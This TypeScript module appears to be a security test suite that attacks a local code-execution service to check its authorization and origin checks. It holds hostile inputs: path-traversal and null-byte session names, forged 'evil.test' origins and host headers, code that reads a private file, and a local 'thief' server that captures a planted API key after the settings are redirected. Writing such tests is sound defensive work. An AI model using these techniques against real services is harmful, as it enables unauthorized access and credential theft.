import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type Attack, each, type Outcome } from "../attack.ts";
import { classicKey, type Ground, planted, roleTokens, type Victim } from "../ground.ts";

const json = { "content-type": "application/json" };

/** Everything of the wire that is about somebody's run or session, or about the host. */
const frames = ({ run, session }: Victim): readonly Readonly<Record<string, unknown>>[] => {
  const call = (method: string, params: object) => ({ t: "call", method, params });
  const open = { t: "open", flow: "run", input: { code: "print(open('private.txt').read(), canary)" } };
  return [
    { t: "follow", run, after: 0 },
    { t: "interrupt", run },
    { t: "cancel", run, scope: "run" },
    { t: "input", run, kind: "approval", approved: true },
    { t: "input", run, kind: "stdin", text: "x" },
    call("runs.get", { run }),
    call("runs.list", { limit: 500 }),
    call("files.list", { run }),
    call("files.get", { run, path: "private.txt" }),
    call("files.list", { session }),
    call("files.get", { session, path: "private.txt" }),
    call("files.put", { session, files: [{ path: "private.txt", base64: "eA==" }] }),
    call("sessions.list", {}),
    call("sessions.close", { session }),
    call("settings.get", { instance: "gpt" }),
    call("settings.set", { instance: "gpt", values: { baseURL: "http://127.0.0.1:1/v1" } }),
    ...[
      session,
      `${session} `,
      session.toUpperCase(),
      `./${session}`,
      `${session}\u0000`,
      "ｐrivate",
      `x/../${session}`,
    ].map((name) => ({ ...open, session: name })),
    { ...open, session: "another", id: "ask-1" },
    { t: "watch", watch: "w", history: 10_000, filter: {} },
  ];
};

const harmless = new Set(["runs.list", "sessions.list", "settings.get"]);

/** `result` for a call that changes or reads what is somebody's was a gain, whatever it holds. */
async function overWire(ground: Ground, token: string | undefined, client: string, headers = {}): Promise<Outcome> {
  const { victim } = ground;
  return each(frames(victim), async (frame) => {
    const talk = await ground.wire(token, client, headers).catch(() => undefined);
    if (talk === undefined) return undefined;
    const said = await talk.ask(frame).catch(() => ({ t: "silence" }) as Readonly<Record<string, unknown>>);
    const own = frame["t"] === "open" || frame["t"] === "watch" || harmless.has(String(frame["method"]));
    if (token === undefined && said["t"] !== "closed" && said["code"] !== "SLUICE_WIRE_AUTH")
      return JSON.stringify(said);
    if (said["run"] === victim.run && said["t"] === "opened") return "the victim's run was opened";
    return said["t"] === "result" && !own ? JSON.stringify(said) : undefined;
  });
}

function tool(ground: Ground, token: string, name: string, args: object) {
  const modern = { "mcp-protocol-version": "2026-07-28", "mcp-method": "tools/call", "mcp-name": name };
  const headers = {
    ...json,
    ...modern,
    authorization: `Bearer ${token}`,
    accept: "application/json, text/event-stream",
  };
  const io = "io.modelcontextprotocol";
  const meta = {
    [`${io}/protocolVersion`]: "2026-07-28",
    [`${io}/clientCapabilities`]: {},
    [`${io}/clientInfo`]: { name: "t", version: "1" },
  };
  const params = { name, arguments: args, _meta: meta };
  const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params });
  return ground.http({ path: "/mcp", headers, body });
}

const toolCalls = ({ run, session }: Victim): readonly (readonly [string, object])[] => [
  ["get_run", { run }],
  ["list_runs", { limit: 100 }],
  ["list_files", { session }],
  ["read_file", { session, path: "private.txt" }],
  ["write_file", { session, path: "private.txt", text: "x" }],
  ["run_code", { code: "print(open('private.txt').read())", language: "python", session }],
];

const pagePaths = ({ run }: Victim) =>
  [`runs/${run}/bundle`, `runs/${run}/files`, `runs/${run}/file?path=private.txt`, "tap/box", "tap/core", "instances"]
    .concat(["sandboxes", "profile", "flows", "models"])
    .map((path) => ["GET", path] as const);

const requests: readonly (readonly [string, string])[] = [
  ["GET", "/settings/messages"],
  ["POST", "/settings"],
  ["POST", "/run"],
  ["POST", "/upload"],
  ["GET", "/download/private.txt?session=private"],
  ["POST", "/openai/chat/completions"],
  ["GET", "/v1/models"],
  ["POST", "/v1/chat/completions"],
  ["POST", "/mcp"],
  ["GET", "/metrics"],
  ["GET", "/monitor/api/profile"],
  ["GET", "/monitor/api/instances"],
  ["POST", "/monitor/api/links"],
  ["POST", "/monitor/api/profile/check"],
];

export const authority: readonly Attack[] = [
  {
    ...{ finding: 2, as: "run", over: "page", what: "what others called their conversations, and those themselves" },
    play: async (ground) => {
      const { session } = ground.victim;
      // Somebody of the house calls it so.
      await ground.asPage("configure", "POST", `conversations/${session}`, { title: planted.question });
      ground.loot();
      const tries = [
        ["GET", "conversations", undefined],
        ["GET", `conversations?q=${planted.question.slice(0, 7)}`, undefined],
        ["GET", `conversations/${session}`, undefined],
        ["POST", `conversations/${session}`, { title: "mine" }],
        ["DELETE", `conversations/${session}`, {}],
      ] as const;
      return each(tries, async ([method, path, body]) => {
        const { status } = await ground.asPage("run", method, path, body);
        return method !== "GET" && status < 400 ? `was done: ${status}` : undefined;
      });
    },
  },
  {
    ...{ finding: 2, as: "nobody", over: "wire", what: "others' runs, sessions, files and the host's settings" },
    play: (ground) => overWire(ground, undefined, "victim"),
  },
  {
    ...{ finding: 2, as: "read", over: "wire", what: "others' runs, sessions, files and the host's settings" },
    play: (ground) => overWire(ground, roleTokens.read, "victim"),
  },
  {
    ...{ finding: 2, as: "run", over: "wire", what: "others' runs, sessions, files and the host's settings" },
    play: (ground) => overWire(ground, roleTokens.run, "victim"),
  },
  ...(["read", "run"] as const).map(
    (role): Attack => ({
      ...{ finding: 2, as: role, over: "mcp", what: "tools on others' runs and sessions" },
      play: (ground) =>
        each(toolCalls(ground.victim), async ([name, args]) => {
          await tool(ground, roleTokens[role], name, args);
          return undefined;
        }),
    }),
  ),
  ...(["read", "run"] as const).map(
    (role): Attack => ({
      ...{ finding: 2, as: role, over: "page", what: "others' runs and what the host keeps for itself" },
      play: (ground) =>
        each(
          [
            ...pagePaths(ground.victim),
            ...(["sandboxes-clean", "instances/box/restart", `runs/${ground.victim.run}/link`] as const).map(
              (path) => ["POST", path] as const,
            ),
          ],
          async ([method, path]) => {
            const { status } = await ground.asPage(role, method, path, method === "GET" ? undefined : {});
            return method === "POST" && status < 400 ? `was done: ${status}` : undefined;
          },
        ),
    }),
  ),
  {
    ...{
      finding: 2,
      as: "holder of the key",
      over: "lmc",
      what: "somebody's session by its name, and the model's address",
    },
    play: async (ground) => {
      const bodies = [{ language: "python", code: "print(open('private.txt').read())" }];
      const thief = createServer((request, response) => {
        taken.push(JSON.stringify(request.headers));
        response.writeHead(500).end();
      }).listen(0, "127.0.0.1");
      const taken: string[] = [];
      const base = () => `http://127.0.0.1:${(thief.address() as AddressInfo).port}/v1`;
      const body = JSON.stringify(bodies[0]);
      await ground.http({ path: "/run?session=private", headers: { ...json, ...classicKey }, body });
      await ground.http({ method: "GET", path: "/download/private.txt?session=private", headers: classicKey });
      await ground.http({ method: "GET", path: "/settings/messages?session=private", headers: classicKey });
      const settings = JSON.stringify({ llm: { api_base: base(), model: "gpt" } });
      await ground.http({ path: "/settings", headers: classicKey, body: settings });
      const messages = [{ role: "user", content: "hi" }];
      await ground.http({ path: "/openai/chat/completions", headers: classicKey, body: JSON.stringify({ messages }) });
      thief.close();
      return { tried: 5, gained: taken.filter((headers) => headers.includes(planted.key)) };
    },
  },
  {
    ...{ finding: 2, as: "nobody", over: "HTTP", what: "every route without a token, or with a wrong one" },
    play: (ground) => {
      const wrong: readonly Readonly<Record<string, string>>[] = [
        {},
        { authorization: "Bearer wrong" },
        { "x-api-key": "wrong" },
        { cookie: "sluice-1=a.3.9.x" },
      ];
      const all = requests.flatMap(([method, path]) => wrong.map((headers) => ({ method, path, headers })));
      return each(all, async (parts) => {
        const body = parts.method === "POST" ? { body: '{"code":"1","language":"python"}' } : {};
        const { status } = await ground.http({ ...parts, ...body });
        return status < 400 ? `answered ${status}` : undefined;
      });
    },
  },
  {
    ...{ finding: 2, as: "a foreign origin", over: "HTTP and sockets", what: "a page of another site, a rebound name" },
    play: async (ground) => {
      const { cookie, csrf } = await ground.page("configure");
      const known = { cookie, "x-sluice-csrf": csrf, authorization: `Bearer ${roleTokens.run}`, ...classicKey };
      const foreign: readonly Readonly<Record<string, string>>[] = [
        { origin: "https://evil.test" },
        { origin: "null" },
        { origin: `http://127.0.0.1:${ground.port + 1}` },
        { origin: `http://127.0.0.1:${ground.port}.evil.test` },
        { host: "evil.test" },
        { host: `evil.test:${ground.port}`, origin: `http://evil.test:${ground.port}` },
      ];
      const http = await each(
        requests.flatMap(([method, path]) => foreign.map((headers) => ({ method, path, headers }))),
        async ({ method, path, headers }) => {
          const body = method === "POST" ? { body: "{}" } : {};
          const { status } = await ground.http({ method, path, headers: { ...known, ...headers }, ...body });
          return status === 403 ? undefined : `answered ${status}`;
        },
      );
      const protocols: readonly Readonly<Record<string, string>>[] = [{}, { "sec-websocket-protocol": "sluice.v1" }];
      const all = protocols.flatMap((protocol) => foreign.map((headers) => ({ ...known, ...protocol, ...headers })));
      const sockets = await each(all, async (headers) =>
        ground.socket(headers).then(
          () => "the socket was opened",
          () => undefined,
        ),
      );
      return { tried: http.tried + sockets.tried, gained: [...http.gained, ...sockets.gained] };
    },
  },
];
